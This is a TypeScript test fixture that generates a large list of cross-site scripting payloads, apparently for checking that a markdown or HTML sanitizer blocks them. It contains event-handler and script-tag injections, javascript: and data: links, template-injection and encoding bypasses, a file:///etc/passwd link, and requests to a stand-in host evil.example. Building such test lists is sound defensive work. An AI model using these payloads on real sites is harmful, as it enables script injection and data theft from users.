/**
 * Texts that try to run something, to send something away or to break out of where they stand. Each
 * that succeeds calls `ran` or asks `evil.example`; neither may ever happen.
 */

const ELEMENTS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'script src=x onerror',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'a href=# autofocus onfocus',
  'button autofocus onfocus',
  'textarea autofocus onfocus',
  'div contenteditable autofocus onfocus',
  'math><mtext><img src=x onerror',
  'noscript><img src=x onerror',
  'template><img src=x onerror',
]

const WRITTEN: readonly ((element: string) => string)[] = [
  (it) => `<${it}=ran(1)>`,
  (it) => `<${it}="ran(1)">text</${it.split(/[ >]/)[0]}>`,
  (it) => `<${it.toUpperCase()}='ran(1)'/>`,
  (it) => `"><${it}=ran(1)>`,
  (it) => `'><${it.replaceAll(' ', '/')}=ran(1)//`,
  (it) => `<${it.replaceAll(' ', '\n')}=&#114;an(1)>`,
  (it) => `</textarea></title></style></script><${it}=ran(1)>`,
]

const SCHEMES = [
  'javascript:ran(1)',
  'JaVaScRiPt:ran(1)',
  'java\tscript:ran(1)',
  '\u0001javascript:ran(1)',
  '&#106;avascript:ran(1)',
  'javascript&colon;ran(1)',
  'data:text/html,<script>parent.ran(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+',
  'vbscript:ran(1)',
  'feed:javascript:ran(1)',
  'view-source:javascript:ran(1)',
  'file:///etc/passwd',
]

const LINKED: readonly ((address: string) => string)[] = [
  (it) => `[read on](${it})`,
  (it) => `[read on](<${it}>)`,
  (it) => `![picture](${it})`,
  (it) => `<${it}>`,
  (it) => `[read on]: ${it}\n\n[read on]`,
  (it) => `<a href="${it}">read on</a>`,
  (it) => `<iframe src="${it}"></iframe>`,
  (it) => `<form action="${it}"><button autofocus>go</button></form>`,
]

const OUTSIDE = '//evil.example/seen'
const ASKS_OUTSIDE = [
  `<img src=${OUTSIDE}>`,
  `![seen](https:${OUTSIDE}.png)`,
  `<link rel=stylesheet href=${OUTSIDE}>`,
  `<link rel=preload as=image href=${OUTSIDE}>`,
  `<style>@import url(${OUTSIDE});</style>`,
  `<div style="background:url(${OUTSIDE})">`,
  `<video poster=${OUTSIDE}></video>`,
  `<meta http-equiv=refresh content="0;url=https:${OUTSIDE}">`,
  `<base href=https:${OUTSIDE}>`,
  `<script src=https:${OUTSIDE}.js></script>`,
  `<object data=https:${OUTSIDE}></object>`,
  `<svg><image href=https:${OUTSIDE} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=https:${OUTSIDE} /></svg>#x"/></svg>`,
  `<portal src=https:${OUTSIDE}></portal>`,
  `<form action=https:${OUTSIDE} id=f></form><input form=f autofocus>`,
]

const BREAKS_OUT = [
  '<script>ran(1)</script>',
  '<script type=module>ran(1)</script>',
  '<scr<script>ipt>ran(1)</scr</script>ipt>',
  '</script><script>ran(1)</script>',
  '<!--</script><script>ran(1)//-->',
  '<![CDATA[<script>ran(1)</script>]]>',
  '<svg><script>ran(1)</script></svg>',
  '<svg><animate onbegin=ran(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:ran(1)>',
  '<math href=javascript:ran(1)>click</math>',
  '<xmp><script>ran(1)</script></xmp>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<x onclick=ran(1) autofocus tabindex=1>',
  '"-ran(1)-"',
  "'-ran(1)-'",
  '`-ran(1)-`',
  '${ran(1)}',
  '#{ran(1)}',
  '{{ran(1)}}',
  "{{constructor.constructor('ran(1)')()}}",
  '<%= ran(1) %>',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=ran(1)>"}}}',
  '\\u003cscript\\u003eran(1)\\u003c/script\\u003e',
  '&lt;script&gt;ran(1)&lt;/script&gt;',
  '%3Cscript%3Eran(1)%3C/script%3E',
  '+ADw-script+AD4-ran(1)+ADw-/script+AD4-',
  '\u202E<script>ran(1)</script>',
  '<\u200Bscript>ran(1)</script>',
  '＜script＞ran(1)＜/script＞',
  '```html\n<script>ran(1)</script>\n```',
  '> <img src=x onerror=ran(1)>',
  '| a |\n|---|\n| <img src=x onerror=ran(1)> |',
  '&nonce;<script nonce>ran(1)</script>',
  '__CSP_NONCE__<script nonce="__CSP_NONCE__">ran(1)</script>',
  '$&$`<script>ran(1)</script>',
  '[a](https://ok.example "\\"onmouseover=ran(1)")',
  '![a](x "onerror=ran(1)")',
  '<plaintext>',
  '<textarea>',
  '<!--',
]

export const SCRIPT_PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => WRITTEN.map((write) => write(element))),
  ...SCHEMES.flatMap((address) => LINKED.map((link) => link(address))),
  ...SCHEMES.map((address) => address),
  ...ASKS_OUTSIDE,
  ...BREAKS_OUT,
]
